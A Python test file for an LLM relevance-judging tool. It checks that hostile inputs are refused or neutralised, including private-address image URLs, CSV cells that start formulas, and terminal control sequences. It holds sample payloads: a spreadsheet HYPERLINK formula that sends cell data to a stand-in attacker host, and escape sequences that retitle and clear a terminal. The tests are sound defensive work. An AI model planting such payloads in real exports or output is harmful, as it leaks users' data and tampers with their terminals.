"""The last hostile inputs (issue 24): each ends in one clear line (exit 2 for input, 3 for the
machine) or is handled, with nothing lost: multi-member gzip, templates that would waste every paid
call, answers in odd shapes, image URLs by resolved address, module imports, numbers beyond the
store, outputs and spreadsheets, terminal control sequences, odd ids, repeated batch lines, and a
cap on counting bad lines."""

from __future__ import annotations

import gzip
import json

import pyarrow.csv as pacsv
import pytest
import yaml
from fake_openai import FakeOpenAI, Reply, judgment_rows, openai_job, write_text_collection
from hostile import one_error, qrelkit, snapshot

from qrelkit.errors import InputFormatError
from qrelkit.io.collection import read_topics
from qrelkit.jobs import load_job, run_job
from qrelkit.judges.http import ImageURLRefused, checked_image_url
from qrelkit.prompts import TemplateError, load_template
from qrelkit.prompts.template import BUILTIN_DIR
from qrelkit.storage import Store

# -- compressed input ----------------------------------------------------------------------------------


def test_a_multi_member_gzip_is_read_once_after_garbage_lines(tmp_path):
    """Members concatenated (`gzip -t` passes): each line is read once, however the members fall."""
    garbage = b"no tab here\n" * 200_000  # a big first member: it ends inside an output-limited inflate
    good = b"".join(b"q%d\tquery %d\n" % (i, i) for i in range(5000))
    (tmp_path / "topics.tsv.gz").write_bytes(gzip.compress(garbage) + gzip.compress(good))
    with pytest.raises(InputFormatError) as caught:
        read_topics(tmp_path / "topics.tsv.gz")
    assert len(caught.value.problems) + caught.value.omitted == 200_000  # the garbage lines, and only they
    assert "duplicate" not in str(caught.value) and "corrupt" not in str(caught.value)
    (tmp_path / "good.tsv.gz").write_bytes(gzip.compress(b"".join(b"p%d\tquery\n" % i for i in range(200_000))) + gzip.compress(good))
    assert len(read_topics(tmp_path / "good.tsv.gz")) == 205_000


def test_counting_bad_lines_stops_at_the_cap_and_says_and_more(tmp_path, monkeypatch):
    monkeypatch.setenv("QRELKIT_MAX_PROBLEMS", "1000")
    data = gzip.compress(b"no tab here\n" * 50_000)
    (tmp_path / "topics.tsv.gz").write_bytes(data[: len(data) - 20])  # read to its end, it would be a truncated gzip
    with pytest.raises(InputFormatError) as caught:
        read_topics(tmp_path / "topics.tsv.gz")
    message = str(caught.value)
    assert message.endswith("... and 990 more problem(s) in " + str(tmp_path / "topics.tsv.gz") + ", and more (reading stopped "
                            "at 1,000 problems; QRELKIT_MAX_PROBLEMS raises the cap)")  # fmt: skip
    assert "truncated" not in message  # the rest of the file was never read


def test_a_run_of_millions_of_bad_lines_is_not_read_to_its_end(tmp_path, monkeypatch):
    monkeypatch.setenv("QRELKIT_MAX_PROBLEMS", "2000")
    (tmp_path / "bad.run").write_text("garbage\n" * 100_000)
    db = tmp_path / "x.duckdb"
    error = one_error(qrelkit("load", "runs", tmp_path / "bad.run", "--db", db, env={"QRELKIT_MAX_PROBLEMS": "2000"}), 2)
    assert error.endswith("... and 1990 more problem(s) in " + str(tmp_path / "bad.run") + ", and more (reading stopped at 2,000 "
                          "problems; QRELKIT_MAX_PROBLEMS raises the cap)")  # fmt: skip


# -- templates that would waste every paid call ------------------------------------------------------


@pytest.mark.parametrize(
    "change, message",
    [
        ({"score_range": [0, 1e308]}, "score_range: [0, 1e+308] holds more than 101 integer grades"),
        ({"grade_tokens": ["low", "high"]}, "grade_tokens: 'low' is not a number; each grade token is the grade it stands for"),
        ({"grade_tokens": ["0", "1e400"]}, "'1e400' is not a number"),
    ],
)
def test_a_template_whose_every_answer_would_fail_is_refused_when_loaded(tmp_path, change, message):
    template = yaml.safe_load((BUILTIN_DIR / "trec-dl-graded.yaml").read_text())
    (tmp_path / "t.yaml").write_text(yaml.safe_dump({**template, **change}))
    with pytest.raises(TemplateError) as caught:
        load_template(tmp_path / "t.yaml")
    assert str(caught.value).startswith(str(tmp_path / "t.yaml")) and message in str(caught.value)


# -- answers in odd shapes ----------------------------------------------------------------------------

DOCS = {"d1": "[d1] goldfish grow big", "d2": "[d2] goldfish are orange", "d3": "[d3] cats sleep"}


@pytest.fixture
def live_job(tmp_path, monkeypatch):
    monkeypatch.delenv("QRELKIT_FAKE_KEY", raising=False)
    with FakeOpenAI() as server:
        write_text_collection(tmp_path, {"q1": "goldfish"}, DOCS, (("q1", d) for d in DOCS))

        def make(**options):
            judge = {"model": "m", "base_url": server.base_url, "api_key_env": "QRELKIT_FAKE_KEY", "max_tries": 1, **options}
            return load_job(openai_job(tmp_path, judge))

        yield server, make


def completion_with(message: dict, **choice) -> dict:
    return {"id": "c", "object": "chat.completion", "choices": [{"index": 0, "message": message, "finish_reason": "stop", **choice}]}


def test_an_answer_in_content_parts_is_read_and_kept(live_job):
    server, make = live_job
    parts = [{"type": "text", "text": "The passage answers it. "}, {"type": "text", "text": "Relevance: 2"}]
    server.script("d1", Reply(body=completion_with({"role": "assistant", "content": parts})))
    server.script("d2", Reply(body=completion_with({"role": "assistant", "content": [{"type": "image_url", "image_url": {}}]})))
    run_job(make(), progress=False)
    rows = judgment_rows(make().database)
    assert (rows["d1"]["status"], rows["d1"]["score"]) == ("ok", 2.0)
    assert rows["d1"]["raw_output"] == "The passage answers it. Relevance: 2"
    assert rows["d2"]["status"] == "parse_error" and rows["d2"]["raw_output"] == '[{"type": "image_url", "image_url": {}}]'


def test_a_malformed_logprobs_field_nobody_asked_for_fails_no_answer(live_job):
    server, make = live_job
    odd = {"content": [{"token": "2", "logprob": "very likely", "top_logprobs": ["2"]}]}
    server.script("d1", Reply(body=completion_with({"role": "assistant", "content": "Relevance: 2"}, logprobs=odd)))
    run_job(make(), progress=False)
    assert (judgment_rows(make().database)["d1"]["status"], judgment_rows(make().database)["d1"]["score"]) == ("ok", 2.0)
    # asked for and malformed: the parsed grade is kept, the expected grade is simply missing
    server.script("d1", Reply(body=completion_with({"role": "assistant", "content": "Relevance: 2"}, logprobs=odd)))
    report = run_job(make(logprobs=True), progress=False)  # another judge run, in the same database
    with Store(make().database, read_only=True) as store:
        row = store.con.execute(
            "SELECT status, score, expected FROM judgments WHERE judge_run_id = ? AND docid = 'd1'", [report.judge_run_id]
        ).fetchone()
    assert row == ("ok", 2.0, None)


# -- image URLs by resolved address -----------------------------------------------------------------


@pytest.mark.parametrize(
    "url, refused",
    [
        ("https://100.64.12.7/a.png", "names a non-public address"),  # carrier-grade NAT
        ("https://[fd12:3456::1]/a.png", "names a private address"),  # unique-local
        ("https://[2002:a00:1::]/a.png", "names a private address"),  # 6to4 of 10.0.0.1
        ("https://localhost./a.png", "names a local name"),
        ("https://vm-images.localhost./a.png", "names a local name"),
        ("https://user:secret@images.example.org/a.png", "carries credentials (user:password@)"),
    ],
)
def test_image_urls_are_refused_by_the_address_they_reach(url, refused):
    with pytest.raises(ImageURLRefused) as caught:
        checked_image_url(url)
    assert refused in str(caught.value) and "secret" not in str(caught.value)


def test_a_host_name_that_resolves_to_a_loopback_address_is_refused(monkeypatch):
    import socket

    from qrelkit.io.net import urls

    urls._resolved_reason.cache_clear()
    # a name this machine resolves (its /etc/hosts or DNS) to a loopback address
    name = next((n for n in ("localhost.localdomain", "ip6-localhost", socket.gethostname()) if _resolves_to_loopback(n)), None)
    if name is None or name.endswith((".localhost", ".local", ".internal")) or name == "localhost":
        pytest.skip("no name here that resolves to a loopback address without looking local by its spelling")
    with pytest.raises(ImageURLRefused, match="names a host that resolves to a loopback address"):
        checked_image_url(f"https://{name}/a.png")


def _resolves_to_loopback(name: str) -> bool:
    import ipaddress
    import socket

    try:
        return any(ipaddress.ip_address(info[4][0].split("%")[0]).is_loopback for info in socket.getaddrinfo(name, 443))
    except (OSError, ValueError):
        return False


# -- imports, numbers beyond the store -----------------------------------------------------------------


def test_a_module_attribute_that_is_not_a_judge_class_is_one_line(tmp_path):
    write_text_collection(tmp_path, {"q1": "goldfish"}, DOCS, [("q1", "d1")])
    job = {
        "database": "j.duckdb",
        "collection": {"topics": "topics.tsv", "documents": "docs.jsonl"},
        "pool": {"pairs": "pairs.txt"},
        "judge": {"name": "json:dumps"},
    }
    (tmp_path / "job.yaml").write_text(yaml.safe_dump(job))
    error = one_error(qrelkit("judge", "job.yaml", "--allow-import", cwd=tmp_path), 2)
    assert error == "error: judge 'json:dumps': 'dumps' in 'json' is not a judge class (a class with `Config`, `judge`)"


def test_identity_grading_of_a_score_beyond_32_bits_is_one_line(tmp_path):
    (tmp_path / "s.txt").write_text("q1 d1 1e30\nq1 d2 2\n")
    db = tmp_path / "g.duckdb"
    assert qrelkit("import", "scores", tmp_path / "s.txt", "--name", "s", "--db", db).returncode == 0
    before = snapshot(db)
    error = one_error(qrelkit("grade", "--judge-run", "s", "--method", "identity", "--db", db), 2)
    assert error == (
        "error: pair (q1, d1): score 1e+30 is beyond the grades qrels hold (32-bit integers) (method identity); use map or quantile"
    )
    assert snapshot(db) == before


# -- outputs ---------------------------------------------------------------------------------------------


@pytest.fixture
def graded(tmp_path):
    (tmp_path / "s.txt").write_text("q1 d1 2\nq1 d2 0\n")
    db = tmp_path / "g.duckdb"
    assert qrelkit("import", "scores", tmp_path / "s.txt", "--name", "s", "--db", db).returncode == 0
    assert qrelkit("grade", "--judge-run", "s", "--method", "identity", "--name", "mine", "--db", db).returncode == 0
    return db


@pytest.mark.parametrize("kind, name", [("qrels", "out.qrels"), ("judgments", "out.csv")])
def test_an_export_never_overwrites_a_file_without_force(tmp_path, graded, kind, name):
    target = tmp_path / name
    target.write_text("my notes\n")
    which = ["--name", "mine"] if kind == "qrels" else ["--judge-run", "s"]
    error = one_error(qrelkit("export", kind, target, *which, "--db", graded), 2)
    assert error == f"error: {target} exists; pass --force to overwrite it"
    assert target.read_text() == "my notes\n"
    assert qrelkit("export", kind, target, *which, "--db", graded, "--force").returncode == 0
    assert target.read_text() != "my notes\n"


def test_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path):
    from qrelkit.judges import Judgment
    from qrelkit.storage.judgments import JudgeRunInfo, ensure_judge_run, write_judgments

    db = tmp_path / "x.duckdb"
    with Store(db) as store:
        ensure_judge_run(store, JudgeRunInfo("aaaa1111", "openai", {}, None, None, None, "m"))
        answers = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1", "@SUM(A1)", "-2", "Relevance: 2"]
        write_judgments(store, "aaaa1111", [Judgment("q1", f"d{i}", "ok", score=1.0, raw_output=a) for i, a in enumerate(answers)])
    assert qrelkit("export", "judgments", tmp_path / "j.csv", "--db", db).returncode == 0
    cells = pacsv.read_csv(tmp_path / "j.csv").column("raw_output").to_pylist()
    assert cells == ["'" + a for a in answers[:4]] + ["Relevance: 2"]
    assert pacsv.read_csv(tmp_path / "j.csv").column("score").to_pylist() == [1.0] * 5  # numbers as they are
    assert qrelkit("export", "judgments", tmp_path / "j.jsonl", "--db", db).returncode == 0
    assert [json.loads(line)["raw_output"] for line in (tmp_path / "j.jsonl").read_text().splitlines()] == answers  # data unchanged


# -- terminal control sequences --------------------------------------------------------------------------

ESC = "\x1b"
SEQUENCES = f"{ESC}]0;owned{chr(7)}{ESC}[2J"


def test_control_sequences_from_topic_text_and_qids_are_escaped_on_the_terminal(tmp_path):
    (tmp_path / "topics.tsv").write_text(f"q1\tgoldfish {SEQUENCES} ponds\n")
    (tmp_path / "docs.jsonl").write_text('{"docid": "d1", "text": "goldfish"}\n')
    db = tmp_path / "c.duckdb"
    for kind, file in (("topics", "topics.tsv"), ("docs", "docs.jsonl")):
        assert qrelkit("load", kind, tmp_path / file, "--db", db).returncode == 0
    shown = qrelkit("prompts", "show", "trec-dl-graded", "--topic", "q1", "--doc", "d1", "--db", db)
    assert ESC not in shown.stdout and "goldfish \\x1b]0;owned\\x07\\x1b[2J ponds" in shown.stdout
    qid = f"q{ESC}[31m1"
    (tmp_path / "q.txt").write_text(f"{qid} 0 d1 2\n")
    (tmp_path / "r.run").write_text(f"{qid} Q0 d1 1 2.0 r\n")
    evaluated = qrelkit("evaluate", "--qrels", tmp_path / "q.txt", "--runs", tmp_path / "r.run", "--format", "trec", "--per-query")
    assert evaluated.returncode == 0, evaluated.stderr
    assert ESC not in evaluated.stdout and "q\\x1b[31m1" in evaluated.stdout
    error = one_error(qrelkit("prompts", "show", "trec-dl-graded", "--topic", qid, "--doc", "d1", "--db", db), 2)
    assert ESC not in error


def test_control_sequences_in_a_providers_error_text_are_escaped(tmp_path, monkeypatch):
    monkeypatch.delenv("QRELKIT_FAKE_KEY", raising=False)
    with FakeOpenAI() as server:
        write_text_collection(tmp_path, {"q1": "goldfish"}, DOCS, [("q1", "d1"), ("q1", "d2")])
        server.script("d1", Reply(500, {"error": {"message": f"overloaded {SEQUENCES}"}}))
        server.script("d2", Reply(401, {"error": {"message": f"bad key {SEQUENCES}"}}))
        judge = {"model": "m", "base_url": server.base_url, "api_key_env": "QRELKIT_FAKE_KEY", "max_tries": 2, "initial_backoff": 0.01}
        openai_job(tmp_path, {**judge, "concurrency": 1}, batch_size=1)
        result = qrelkit("judge", "job.yaml", "--quiet", cwd=tmp_path)
    assert result.returncode == 3 and ESC not in result.stderr and ESC not in result.stdout, result.stderr
    assert "overloaded \\x1b]0;owned\\x07\\x1b[2J" in result.stderr  # the retry warning, escaped
    assert "bad key \\x1b]0;owned\\x07\\x1b[2J" in result.stderr  # the error that stopped the job, escaped


# -- ids --------------------------------------------------------------------------------------------------


def test_a_nul_byte_inside_a_qid_is_refused_at_its_line(tmp_path):
    (tmp_path / "r.run").write_bytes(b"q1 Q0 d1 1 2.0 r\nq\x001 Q0 d2 2 1.0 r\n")
    db = tmp_path / "x.duckdb"
    error = one_error(qrelkit("load", "runs", tmp_path / "r.run", "--db", db), 2)
    assert error == f"error: {tmp_path / 'r.run'}:2: NUL byte at column 2 (a binary file?)"
    assert snapshot(db) == {} or all(not rows for name, rows in snapshot(db).items() if name != "meta")


def test_a_tsv_topic_whose_qid_holds_a_space_is_refused(tmp_path):
    (tmp_path / "topics.tsv").write_text("899\tfine\n900 001\tnobody can name me in a run\n")
    with pytest.raises(InputFormatError, match=r"topics.tsv:2: qid '900 001' holds white space: run and qrels files split it"):
        read_topics(tmp_path / "topics.tsv")


# -- a repeated custom_id in a batch output ------------------------------------------------------------------


def test_a_repeated_custom_id_in_a_batch_output_is_noted_on_the_judgment(tmp_path, monkeypatch):
    from fake_batch_api import FakeBatchAPI

    monkeypatch.delenv("QRELKIT_FAKE_KEY", raising=False)
    with FakeBatchAPI() as api:
        write_text_collection(tmp_path, {"q1": "goldfish"}, DOCS, (("q1", d) for d in DOCS))
        options = {"model": "fake-gpt", "base_url": api.base_url, "api_key_env": "QRELKIT_FAKE_KEY", "mode": "batch"}
        spec = load_job(openai_job(tmp_path, options))
        run_job(spec, progress=False)
        (batch_id,) = api.complete()
        output = api.files[api.batches[batch_id]["output_file_id"]]
        first = output.data.splitlines(keepends=True)[0]
        output.data = output.data + first  # the line of one pair twice
        run_job(spec, progress=False)
    rows = judgment_rows(spec.database)
    repeated = json.loads(first)["custom_id"].rsplit(":", 1)[1]
    assert rows[repeated]["status"] == "ok"
    assert rows[repeated]["notes"] == (
        f"the batch {batch_id} answered this pair in 2 lines (one custom_id repeated); the first HTTP 200 answer was kept"
    )
    assert all(row["notes"] is None for docid, row in rows.items() if docid != repeated)
